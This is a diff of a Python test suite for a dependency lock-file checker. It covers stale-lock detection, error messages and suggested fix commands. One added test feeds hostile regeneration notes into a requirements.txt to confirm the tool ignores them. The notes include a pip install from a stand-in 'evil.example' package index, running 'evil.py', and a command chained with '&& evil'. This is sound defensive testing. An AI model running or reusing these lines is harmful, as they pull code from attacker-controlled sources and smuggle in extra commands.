@@ -77,7 +77,7 @@ def test_lock_is_stale_when_the_manifest_asks_for_more(root: Path, file: str) ->
     lock.requirements(path)
     for wanted in ('"attrs>=24"', '"attrs>=20", "six"'):
         rewrite(path, PROJECT.replace('"attrs>=20"', wanted))
-        with pytest.raises(StaleError, match=f"something else than {file}") as caught:
+        with pytest.raises(StaleError, match=f"{file} does not match pyproject.toml") as caught:
             lock.requirements(path)
         command = {"uv.lock": "uv lock --project", "pdm.lock": "pdm lock --project"}
         assert str(caught.value.fix).startswith(command.get(file, f"cd {path} && "))
@@ -102,7 +102,7 @@ def test_uv_lock_of_a_python_that_is_not_here_is_compared_by_versions(root: Path
     (path / "uv.lock").write_text(UV.replace(">=3.10", ">=3.99"))
     assert exported(path, "main") == ["attrs==23.1"]
     rewrite(path, PROJECT.replace(">=3.10", ">=3.99").replace("attrs>=20", "attrs>=24"))
-    with pytest.raises(StaleError, match=r"something else than uv\.lock"):
+    with pytest.raises(StaleError, match=r"uv\.lock does not match"):
         lock.requirements(path)
 
 
@@ -140,7 +140,7 @@ def test_requirements_count_only_with_hashes_and_without_another_lock(root: Path
     (path / "uv.lock").write_text(UV)
     assert lock_source.of(path).kind is LockKind.UV
     (path / "uv.lock").unlink()
-    (path / "more.txt").write_text("pytest==8.0\n")
+    (path / "requirements.txt").write_text("attrs==23.1\n")
     with pytest.raises(StaleError, match=r"has no poetry\.lock"):
         lock_source.of(path)
 
@@ -207,7 +207,7 @@ def test_pylock_without_groups_is_one_set_that_must_hold_the_chosen_groups(root:
     (path / "pylock.toml").write_text(chosen)
     assert exported(path) == exported(path, "main") == ["attrs==23.1", "docutils==0.1", "orjson==3.0", "pytest==8.0"]
     (path / "pylock.toml").write_text(chosen.replace('"pytest"', '"other"'))
-    with pytest.raises(StaleError, match=r"something else than pylock\.toml"):
+    with pytest.raises(StaleError, match=r"pylock\.toml does not match"):
         lock.requirements(path)
 
 
@@ -276,3 +276,58 @@ def test_input_digest_follows_groups_and_extras(root: Path) -> None:
         found.add(digest())
     (path / "uv.lock").write_text(UV + "\n")
     assert len(found | {digest()}) == 5
+
+
+@pytest.mark.parametrize(
+    "noted",
+    [
+        "pip install --index-url http://evil.example/simple attrs",
+        "uv run evil.py",
+        "uv pip compile --index-url=evil requirements.in",
+        "pip-compile -i evil requirements.in",
+        "uv pip compile --python ./evil requirements.in",
+        "uv pip compile pyproject.toml\t&& evil",
+    ],
+)
+def test_hostile_note_of_a_lock_is_no_fix(root: Path, noted: str) -> None:
+    path = locked(root, "requirements.txt")
+    text = (path / "requirements.txt").read_text()
+    (path / "requirements.txt").write_text(text.replace("pip-compile --generate-hashes requirements.in", noted))
+    plain = "uv pip compile --generate-hashes --output-file requirements.txt"
+    assert lock_source.of(path).command() == f"cd {path} && {plain} pyproject.toml"
+    (path / "requirements.in").write_text("attrs\n")
+    assert lock_source.of(path).command() == f"cd {path} && {plain} requirements.in"
+    (path / "requirements.in").unlink()
+    (path / "pyproject.toml").unlink()
+    assert (
+        lock_source.LockSource(LockKind.REQUIREMENTS, path / "requirements.txt", path)
+        .command()
+        .endswith(f"{plain} requirements.txt")
+    )
+
+
+def test_line_without_a_hash_in_a_lock_is_named(root: Path) -> None:
+    path = locked(root, "requirements.txt")
+    with (path / "requirements.txt").open("a") as file:
+        file.write("six==1.16\n")
+    with pytest.raises(ConfigError, match=r"is no lock: .*six"):
+        lock_source.of(path)
+
+
+def test_lock_is_stale_when_setup_cfg_asks_for_more(root: Path) -> None:
+    path = locked(root, "requirements.txt")
+    (path / "pyproject.toml").write_text('[tool.helpers]\nbase = "archive:bookworm"\n')
+    (path / "setup.cfg").write_text("[metadata]\nname = one\n[options]\ninstall_requires = attrs\n")
+    forget()
+    lock.requirements(path)
+    (path / "setup.cfg").write_text("[metadata]\nname = one\n[options]\ninstall_requires = attrs\n  flask\n")
+    forget()
+    with pytest.raises(StaleError, match=r"requirements\.txt does not match"):
+        lock.requirements(path)
+
+
+def test_setting_that_names_no_lock_is_refused_with_a_line_to_write(root: Path) -> None:
+    path = locked(root, "uv.lock", 'lock = "x"')
+    with pytest.raises(ConfigError, match='lock = "x" is not a known lock file') as caught:
+        lock_source.of(path)
+    assert caught.value.fix == 'lock = "uv.lock"'
